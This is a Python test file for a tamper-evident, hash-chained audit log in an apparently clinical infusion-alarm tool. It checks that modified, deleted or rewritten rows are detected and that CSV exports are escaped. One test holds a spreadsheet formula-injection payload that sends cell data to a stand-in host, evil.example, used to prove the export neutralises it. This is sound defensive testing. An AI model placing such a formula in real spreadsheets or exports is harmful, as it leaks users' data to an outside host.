"""The tamper-evident audit chain, on SQLite and PostgreSQL: every alert transition and
every user action (refused ones too) in one hash chain that survives restarts, and
``calguard audit verify`` naming the first broken link after a row is changed or deleted."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

from calguard.alerts.audit import link_hash, verify_chain
from calguard.alerts.log import AlertLog, normalise_db_url
from calguard.alerts.schema import alert_transitions, audit_chain
from calguard.config import load_library
from sqlalchemy import delete, select, update
from sqlalchemy.ext.asyncio import create_async_engine

from calguard.replay import replay

ROOT = Path(__file__).parent.parent
T = "2026-11-21T08:{:02d}:00Z"
SHIFT = [
    {"t": T.format(0), "type": "patient", "bed": "B1", "weight": "1 kg", "postnatal_age": "5 day"},
    {"t": T.format(0), "type": "line", "line": "L1", "bed": "B1", "kind": "piv"},
    {"t": T.format(0), "type": "connect", "pump": "P1", "line": "L1"},
    {"t": T.format(0), "type": "patency_check", "line": "L1", "result": "blood_return"},
    {
        "t": T.format(1),
        "type": "reading",
        "pump": "P1",
        "rate": "180 ml/h",
        "drug": "Calcium gluconate 10%",
    },
    {"t": T.format(2), "type": "ack", "alert": "a-000003", "by": "rn42"},
    {"t": T.format(2), "type": "ack", "alert": "a-000099", "by": "rn42"},  # refused: no such alarm
    {
        "t": T.format(3),
        "type": "override",
        "alert": "a-000001",
        "by": "dr7",
        "reason": "prescriber-approved",
    },
    {"t": T.format(4), "type": "clock"},
]


async def run(url: str) -> list[dict[str, object]]:
    data = "".join(json.dumps(e) + "\n" for e in SHIFT).encode()
    out = io.StringIO()
    async with AlertLog(url) as log:
        await replay(io.BytesIO(data), source="shift", library=load_library(), out=out, log=log)
    return [json.loads(line) for line in out.getvalue().splitlines()]


async def execute(url: str, statement):  # type: ignore[no-untyped-def]
    engine = create_async_engine(normalise_db_url(url))
    try:
        async with engine.begin() as conn:
            result = await conn.execute(statement)
            return result.all() if result.returns_rows else None
    finally:
        await engine.dispose()


async def test_every_transition_and_action_is_chained_and_verifies(db_url: str) -> None:
    lines = await run(db_url)
    rows = await execute(db_url, select(audit_chain).order_by(audit_chain.c.seq))
    kinds = [r.kind for r in rows]
    assert kinds.count("transition") == len(lines)
    assert kinds.count("action") == 2 and kinds.count("action-refused") == 1
    refused = next(r for r in rows if r.kind == "action-refused")
    assert refused.actor == "rn42" and "a-000099" in refused.payload
    assert [r.seq for r in rows] == list(range(1, len(rows) + 1))
    overridden = next(r for r in rows if r.kind == "transition" and '"overridden"' in r.payload)
    assert overridden.actor == "dr7"
    report = await verify_chain(normalise_db_url(db_url))
    assert report.ok and report.rows == len(rows) and report.head_hash == rows[-1].hash


async def test_the_chain_continues_across_runs(db_url: str) -> None:
    first = len(await run(db_url))
    await run(db_url)
    report = await verify_chain(normalise_db_url(db_url))
    assert report.ok and report.rows == 2 * (first + 3)


async def test_a_modified_row_is_found(db_url: str) -> None:
    await run(db_url)
    # someone "softens" an alarm in the audit: high -> low
    await execute(
        db_url,
        update(audit_chain)
        .where(audit_chain.c.seq == 2)
        .values(payload=audit_chain.c.payload.op("||")(" ")),
    )
    report = await verify_chain(normalise_db_url(db_url))
    assert not report.ok and report.broken_at == 2 and "modified" in (report.problem or "")
    assert report.head_seq == 1


async def test_a_deleted_row_is_found(db_url: str) -> None:
    await run(db_url)
    await execute(db_url, delete(audit_chain).where(audit_chain.c.seq == 4))
    report = await verify_chain(normalise_db_url(db_url))
    assert not report.ok and report.broken_at == 4 and "deleted" in (report.problem or "")


async def test_a_rewritten_chain_tail_is_found_by_its_next_link(db_url: str) -> None:
    """Rewriting a row and its own hash does not help: the next row names the old hash."""
    await run(db_url)
    rows = await execute(db_url, select(audit_chain).where(audit_chain.c.kind == "action"))
    row = rows[0]  # rn42's acknowledgement: make it someone else's
    forged = row.payload.replace("rn42", "rn99")
    assert forged != row.payload
    new_hash = link_hash(row.seq, row.t_us, row.kind, "rn99", forged, row.prev_hash)
    await execute(
        db_url,
        update(audit_chain)
        .where(audit_chain.c.seq == row.seq)
        .values(payload=forged, actor="rn99", hash=new_hash),
    )
    report = await verify_chain(normalise_db_url(db_url))
    assert not report.ok and report.broken_at == row.seq + 1


def test_calguard_audit_verify_and_export(tmp_path: Path) -> None:
    import asyncio

    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
    asyncio.run(run(url))

    def calguard(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "calguard.cli", *args, "--db", url],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=60,
        )

    good = calguard("audit", "verify")
    assert good.returncode == 0 and "intact" in good.stdout
    csv_path = tmp_path / "audit.csv"
    exported = calguard("audit", "export", "--out", str(csv_path))
    assert exported.returncode == 0
    with csv_path.open(newline="") as f:
        header, *body = list(csv.reader(f))
    assert header[:5] == ["seq", "time", "session", "kind", "actor"] and len(body) == 11
    asyncio.run(
        execute(url, update(alert_transitions).values(message="nothing to see"))
    )  # the alert table is not the audit: verify still passes; the chain keeps the truth
    asyncio.run(execute(url, update(audit_chain).where(audit_chain.c.seq == 5).values(actor="x")))
    bad = calguard("audit", "verify")
    assert bad.returncode == 1 and "BROKEN at entry 5" in bad.stdout


def test_an_exported_user_id_never_runs_as_a_formula_and_still_hashes(tmp_path: Path) -> None:
    """A user id typed as a spreadsheet formula reaches the export as text (a leading
    quote); dropping that one quote gives back the stored text, and the row's hash."""
    import asyncio

    from calguard.monitor.timeutil import parse_ts

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    url = f"sqlite:///{tmp_path / 'log.sqlite3'}"
    shift = [{**e, "by": evil} if e.get("by") == "rn42" else e for e in SHIFT]
    data = "".join(json.dumps(e) + "\n" for e in shift).encode()

    async def run_shift() -> None:
        async with AlertLog(url) as log:
            await replay(
                io.BytesIO(data), source="shift", library=load_library(), out=io.StringIO(), log=log
            )

    asyncio.run(run_shift())
    out = tmp_path / "audit.csv"
    exported = subprocess.run(
        [sys.executable, "-m", "calguard.cli", "audit", "export", "--db", url, "--out", str(out)],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert exported.returncode == 0, exported.stderr
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    by_evil = [r for r in rows if evil in r["actor"]]
    assert len(by_evil) == 3  # the acknowledgement, its transition and the refused one
    for r in by_evil:
        assert r["actor"] == "'" + evil
        actor = r["actor"][1:]  # undo the escape
        seq, t_us = int(r["seq"]), parse_ts(r["time"])
        assert link_hash(seq, t_us, r["kind"], actor, r["payload"], r["prev_hash"]) == r["hash"]
